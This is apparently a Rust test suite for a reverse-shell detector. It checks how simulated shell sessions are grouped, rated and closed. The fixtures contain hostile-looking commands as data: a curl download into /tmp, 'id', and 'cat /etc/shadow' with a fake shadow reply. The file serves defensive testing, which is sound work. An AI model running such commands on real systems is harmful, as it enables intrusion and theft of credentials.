//! What is said of a shell: once, in the right words, until it ends.

use super::*;

#[test]
fn an_answer_belongs_to_the_command_before_it() {
    let mut scene = Scene::new(Side::Originator).play(&[
        t(100, P, "curl -s http://10.96.7.7/ -o /tmp/x\n"),
        t(4_600, P, "chmod 600 /tmp/x\n"),
        t(8_300, P, "echo done\n"),
        t(1, C, "done\n"),
    ]);
    assert!(scene.findings.is_empty(), "{:?}", scene.findings);
    let mut pasted = Scene::new(Side::Originator);
    pasted.say(100, P, What::Text("cd /\nid\nls -la\nexit\n"));
    pasted.say(4, C, What::Text("uid=33(www-data) gid=33(www-data)\n"));
    assert_eq!(pasted.findings[0].1.evidence["first_command"], "id");
    scene.say(9_000, P, What::Text("ls /tmp\n"));
    scene.say(1, C, What::Text("blob\nx\n"));
    let finding = &scene.findings[0].1;
    assert_eq!(finding.severity, Severity::Medium);
    assert_eq!(finding.evidence["first_command"], "echo");
    assert_eq!(finding.evidence["distinct_commands_answered"], 2);
}

#[test]
fn what_a_flow_was_taken_for_first_is_closed() {
    let mut script = Vec::new();
    for index in 0..6 {
        script.extend([c(5_000, P, 26 + index), c(1, C, 110)]);
    }
    script.extend(typed(&PAUSES, 20, 20, &OUTPUTS));
    let scene = Scene::new(Side::Originator).play(&script);
    assert_eq!(scene.findings[0].1.rule.id, "shell.reverse.tasking");
    assert_eq!(worst(&scene.findings).unwrap().0, "shell.reverse.encrypted");
    assert_eq!(scene.closed, ["shell.reverse.tasking"]);
}

#[test]
fn the_same_task_every_time_is_tasking_and_no_person() {
    let mut script = Vec::new();
    for _ in 0..40 {
        script.extend([c(5_000, P, 26), c(1, C, 110)]);
    }
    let findings = Scene::new(Side::Originator).play(&script).end();
    assert_eq!(worst(&findings).unwrap().0, "shell.reverse.tasking");
    let named = Scene::new(Side::Originator).tls(Some("agent.example")).play(&script).end();
    assert!(is_silent(&named));
}

#[test]
fn one_peer_is_one_finding_however_often_it_connects() {
    let mut scene = Scene::new(Side::Originator);
    let mut subjects = Vec::new();
    for id in 1..=5 {
        scene.flow.id = id;
        scene.flow.originator.port = 40_000 + id as u16;
        scene.flow.sides = [SideCounters::default(); 2];
        scene.turns = Turns::new();
        scene.say(1_000, P, What::Text("id\n"));
        scene.say(2, C, What::Text("uid=0(root) gid=0(root)\n"));
        scene.emit(&Event::FlowClosed(FlowEnd::Closed));
        subjects.push(scene.findings.last().unwrap().1.subject);
    }
    subjects.dedup();
    assert_eq!(subjects.len(), 1);
    assert!(scene.detector.watched.is_empty(), "closed flows leave nothing behind");
    let mut verdicts = Vec::new();
    for (after_s, closes) in [(60, 0), (700, 1), (800, 0)] {
        let at = Timestamp::from_nanos((scene.now_ms / 1_000 + after_s) * 1_000_000_000);
        scene.detector.end_minute(at, &scene.container, &scene.node, &mut verdicts);
        assert_eq!(verdicts.drain(..).count(), closes, "{after_s} s later");
    }
}

#[test]
fn a_finding_follows_the_commands_and_ends_with_its_flow() {
    for (end, closes) in [(FlowEnd::Closed, 1), (FlowEnd::CaptureEnd, 0)] {
        let mut scene = Scene::new(Side::Originator);
        for (command, answer) in [
            ("id\n", "uid=0(root) gid=0(root)\n"),
            ("ls -l /\n", "drwxr-xr-x 1 root root 4096 Mar  1 12:00 bin\n"),
            ("cat /etc/shadow\n", "root:*:20148:0:99999:7:::\n"),
        ] {
            scene.say(1_000, P, What::Text(command));
            scene.say(2, C, What::Text(answer));
        }
        let seen: Vec<_> = scene
            .findings
            .iter()
            .map(|(_, finding)| finding.evidence["commands_seen"].as_u64())
            .collect();
        assert_eq!(seen, [Some(1), Some(2), Some(3)]);
        let why = |place: usize| scene.findings[place].1.why.as_str();
        assert!(why(0).contains("sent 1 shell command ("), "{}", why(0));
        assert!(why(2).contains("sent 3 shell commands ("), "{}", why(2));
        scene.emit(&Event::FlowClosed(end));
        let mut verdicts = Vec::new();
        scene.detector.end_capture(&mut verdicts);
        assert_eq!(verdicts.len(), closes, "{end:?}");
    }
}

#[test]
fn what_is_held_is_bounded() {
    let mut scene = Scene::new(Side::Originator);
    for id in 1..=2_000 {
        scene.flow.id = id;
        scene.turns = Turns::new();
        scene.say(1, P, What::Text("id\n"));
    }
    let settings = Settings::default();
    assert_eq!(scene.detector.watched.len(), settings.watched_max);
    assert!(size_of::<Watch>() <= 512, "{}", size_of::<Watch>());
    assert!(size_of::<Text>() <= 656, "{}", size_of::<Text>());
}
